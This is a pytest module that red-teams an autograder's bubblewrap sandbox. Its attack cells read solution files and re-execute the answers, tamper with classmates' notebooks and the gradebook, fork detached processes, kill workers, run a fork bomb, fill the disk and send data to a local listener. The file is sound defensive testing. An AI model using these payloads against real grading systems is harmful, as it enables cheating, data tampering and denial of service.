"""Red team, isolation half: attacks on the grading machine, graded in one real run.

Each attacker hands in the blank lesson-01 release (it deserves 0) plus one added cell, in a class
with honest classmates (complete submissions); the whole class is graded once by the real
``ann-course grade`` (real nbgrader, real kernels, each in its bubblewrap sandbox). Then, from the
outside: every attacker has 0, every honest classmate full marks, the results read a while after
the run are the same, no process an attack started is alive, the test's TCP server on 127.0.0.1
received nothing, and no file an attack tried to create or change outside its sandbox was.

The same attacks without a sandbox (``--trust-submissions``) show that they are real: reading the
solutions earns full marks, and killing the worker is survived by the job runner alone.
"""

from __future__ import annotations

import csv
import hashlib
import json
import os
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import nbformat
import pytest

from autograder import notebooks
from autograder.grading.grade import grade
from autograder.limits import Limits
from autograder.release.sample_class import submission
from autograder.sandbox import bubblewrap as sandbox
from autograder.settings import REPO
from tests.autograder.sandbox.test_sandbox import surviving

L, NB = "01_neuron", "01_neuron.ipynb"
TOTAL = 5.0
HONEST = ("honest_1", "honest_2", "honest_3")


def attacks(root, port, marker):
    """``{student: code of the added cell}``; ``root`` is the test's folder (SUBMITTED, OUT)."""
    sub, out = root / "submitted", root / "out"
    targets = [sub / HONEST[0] / L / NB, out / ".nbgrader" / "gradebook.db", out / "grades.csv",
               sub / "pwned.txt", out / "pwned.txt", root / "pwned.txt",
               REPO / "autograder" / "pwned.py"]
    later = (f"import time, glob\ntime.sleep(5)\n"
             f"for p in glob.glob({str(out)!r} + '/**', recursive=True) + [{str(root / 'late.txt')!r}]:\n"
             "    try:\n        open(p, 'a').write('pwned')\n    except OSError:\n        pass\n"
             f"time.sleep(20)  # {marker}\n")
    return {
        "read_solutions": (  # the solutions' answers, defined again after every cell
            "import json\n"
            f"cells = json.load(open({str(REPO / 'solutions' / L / NB)!r}))['cells']\n"
            "answers = [''.join(c['source']) for c in cells\n"
            "           if c.get('metadata', {}).get('nbgrader', {}).get('solution')]\n"
            "def paste(*args):\n    for a in answers:\n        exec(a, get_ipython().user_ns)\n"
            "get_ipython().events.register('post_run_cell', paste)\n"),
        "write_others": (
            f"for t in {[str(t) for t in targets]!r}:\n"
            "    try:\n        open(t, 'a').write('pwned')\n    except OSError:\n        pass\n"),
        "detached": (
            "import os, sys\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
            f"        os.execv(sys.executable, [sys.executable, '-c', {later!r}])\n"
            "    os._exit(0)\n"),
        "kill_worker": (
            "import os, signal\n"
            "for pid in [p for p in os.listdir('/proc') if p.isdigit()]:\n"
            "    try:\n"
            f"        if os.readlink(f'/proc/{{pid}}/cwd').startswith({str(root)!r}) \\\n"
            "                and int(pid) != os.getpid():\n"
            "            os.kill(int(pid), signal.SIGKILL)\n"
            "    except OSError:\n        pass\n"
            "os.kill(os.getppid(), signal.SIGKILL)\n"),
        "fork_spree": (
            "import os, time\nn = 0\ntry:\n    for _ in range(3000):\n"
            "        if os.fork() == 0:\n            time.sleep(60)\n            os._exit(0)\n"
            "        n += 1\nexcept OSError:\n    pass\n"),
        "fill_disk": (
            "n = 0\nfor where in ('big.bin', '/tmp/big.bin'):\n    try:\n"
            "        with open(where, 'wb') as f:\n            while n < (512 << 20):\n"
            "                f.write(b'x' * (1 << 20)); f.flush(); n += 1 << 20\n"
            "    except OSError:\n        pass\n"),
        "network": (
            "import socket\ntry:\n"
            f"    socket.create_connection(('127.0.0.1', {port}), timeout=3).sendall(b'leak')\n"
            "except OSError:\n    pass\n"),
    }


def attacker(code):
    """The blank release with ``code`` in an added cell after the imports."""
    nb = notebooks.read(REPO / "course" / L / NB)
    nb.cells.insert(2, nbformat.v4.new_code_cell(code))
    return nb


def write_class(root, codes):
    for student in HONEST:
        notebooks.write(submission(L, NB), root / "submitted" / student / L / NB)
    for student, code in codes.items():
        notebooks.write(attacker(code), root / "submitted" / student / L / NB)


def snapshot(out):
    """What a re-read of the results sees: grades.csv, totals.csv, and the gradebook's scores."""
    from nbgrader.api import Gradebook

    files = {name: hashlib.sha256((out / name).read_bytes()).hexdigest()
             for name in ("grades.csv", "totals.csv", "report.html")}
    with Gradebook(f"sqlite:///{out / '.nbgrader' / 'gradebook.db'}", "ann-course") as gb:
        scores = {s.student.id: s.score for s in gb.assignment_submissions(L)}
    return files, scores


def processes_under(root):
    """Host processes whose working folder is under ``root`` (a kernel's, or what it started)."""
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if os.readlink(f"/proc/{pid}/cwd").startswith(str(root)):
                found.append(int(pid))
        except OSError:
            pass
    return found


class Listener:
    """A TCP server on 127.0.0.1 that records whatever reaches it."""

    def __init__(self):
        self.server = socket.create_server(("127.0.0.1", 0))
        self.server.settimeout(0.2)
        self.port = self.server.getsockname()[1]
        self.received, self._stop = [], False
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def _run(self):
        while not self._stop:
            try:
                conn, _ = self.server.accept()
            except OSError:
                continue
            with conn:
                self.received.append(conn.recv(100) or b"(connected)")

    def close(self):
        self._stop = True
        self.thread.join()
        self.server.close()


@pytest.fixture(scope="module")
def attacked(tmp_path_factory):
    if sandbox.bwrap_path() is None:
        pytest.fail("bubblewrap is needed (installed by .ci/run)")
    root = tmp_path_factory.mktemp("redteam")
    marker = f"ann-redteam-{os.getpid()}-{time.monotonic_ns()}"
    listener = Listener()
    codes = attacks(root, listener.port, marker)
    write_class(root, codes)
    honest_before = (root / "submitted" / HONEST[0] / L / NB).read_bytes()
    run = grade(root / "submitted", root / "out", limits=Limits(timeout=20), jobs=3)
    right_after = snapshot(root / "out")
    time.sleep(8)  # the detached attack acts 5 s after its notebook ended
    listener.close()
    return dict(root=root, rows=run.rows, run=run, codes=codes, marker=marker, listener=listener,
                right_after=right_after, later=snapshot(root / "out"), honest_before=honest_before)


def totals(rows):
    out = {}
    for r in rows:
        out[r.student_id] = out.get(r.student_id, 0.0) + r.score
    return out


def test_every_attacker_gets_zero_and_every_honest_classmate_full_marks(attacked):
    got = totals(attacked["rows"])
    assert {s: got[s] for s in HONEST} == {s: TOTAL for s in HONEST}
    assert {s: got[s] for s in attacked["codes"]} == {s: 0.0 for s in attacked["codes"]}


def test_honest_classmates_are_graded_normally(attacked):
    honest = [r for r in attacked["rows"] if r.student_id in HONEST]
    assert {r.status for r in honest} == {"ok"}


def test_results_do_not_change_after_the_run(attacked):
    assert attacked["later"] == attacked["right_after"]
    with (attacked["root"] / "out" / "grades.csv").open() as f:
        assert "pwned" not in f.read()


def test_no_process_started_by_a_notebook_survives(attacked):
    assert surviving(attacked["marker"]) == []
    assert processes_under(attacked["root"]) == []


def test_the_hosts_loopback_received_nothing(attacked):
    assert attacked["listener"].received == []


def test_nothing_was_written_outside_the_sandboxes(attacked):
    root = attacked["root"]
    for path in (root / "pwned.txt", root / "late.txt", root / "submitted" / "pwned.txt",
                 root / "out" / "pwned.txt", REPO / "autograder" / "pwned.py"):
        assert not path.exists(), path
    assert (root / "submitted" / HONEST[0] / L / NB).read_bytes() == attacked["honest_before"]
    assert not list((root / "submitted").rglob("big.bin"))
    assert not list((root / "out").rglob("big.bin"))


def test_the_run_said_every_notebook_was_sandboxed(attacked):
    assert attacked["run"].sandboxed is True
    assert "WITHOUT a sandbox" not in (attacked["root"] / "out" / "report.html").read_text()


def test_every_attacker_is_flagged_for_review_and_no_honest_classmate(attacked):
    for r in attacked["rows"]:
        if r.student_id in HONEST:
            assert r.flags == "", r
        else:
            assert "suspicious code" in r.flags, r


# --- without a sandbox -------------------------------------------------------------------------

def cli(args, env=None):
    return subprocess.run([sys.executable, "-m", "autograder", *map(str, args)], capture_output=True,
                          text=True, env=env, cwd=REPO, timeout=600)


def test_grade_refuses_without_bubblewrap(tmp_path):
    write_class(tmp_path, {})
    path = os.pathsep.join(p for p in os.environ["PATH"].split(os.pathsep)
                           if not Path(p, "bwrap").exists())
    r = cli(["grade", tmp_path / "submitted", "--out", tmp_path / "out"],
            env={**os.environ, "PATH": path})
    assert r.returncode == 2, r.stdout + r.stderr
    assert "refusing to grade" in r.stderr
    assert "apt-get install bubblewrap" in r.stderr
    assert "--trust-submissions" in r.stderr
    assert not (tmp_path / "out" / "grades.csv").exists()


def test_trusted_grading_runs_without_sandbox_says_so_and_survives_a_killed_worker(tmp_path):
    codes = attacks(tmp_path, 9, "unused")
    write_class(tmp_path, {"read_solutions": codes["read_solutions"],
                           "kill_worker": ("import os, signal\n"
                                           "os.kill(os.getppid(), signal.SIGKILL)\n"),
                           "over_budget": "import time\ntime.sleep(150)\n"})
    path = os.pathsep.join(p for p in os.environ["PATH"].split(os.pathsep)
                           if not Path(p, "bwrap").exists())
    # a 60 s budget: an honest notebook stays within it even on a heavily loaded machine
    r = cli(["grade", tmp_path / "submitted", "--out", tmp_path / "out", "--trust-submissions",
             "--jobs", "2", "--timeout", "120", "--budget", "60"], env={**os.environ, "PATH": path})
    assert r.returncode == 0, r.stderr
    assert "WITHOUT a sandbox" in r.stderr
    assert "WITHOUT a sandbox" in (tmp_path / "out" / "report.html").read_text()
    with (tmp_path / "out" / "grades.csv").open() as f:
        rows = list(csv.DictReader(f))
    score = {}
    for row in rows:
        score[row["student_id"]] = score.get(row["student_id"], 0.0) + float(row["score"])
    assert {s: score[s] for s in HONEST} == {s: TOTAL for s in HONEST}
    assert score["read_solutions"] == TOTAL  # without a sandbox the attack works: it is real
    killed = {row["status"] for row in rows if row["student_id"] == "kill_worker"}
    assert killed == {"grader error: the grading worker died (killed by SIGKILL) (graded 2 times)"}
    budget = {row["status"] for row in rows if row["student_id"] == "over_budget"}
    assert budget == {"timeout: the notebook ran past its whole 60 s budget (stopped)"}
    state = json.loads((tmp_path / "out" / ".nbgrader" / "state.json").read_text())
    assert f"{HONEST[0]}/{L}" in state
    assert f"kill_worker/{L}" not in state and f"over_budget/{L}" not in state  # never cached
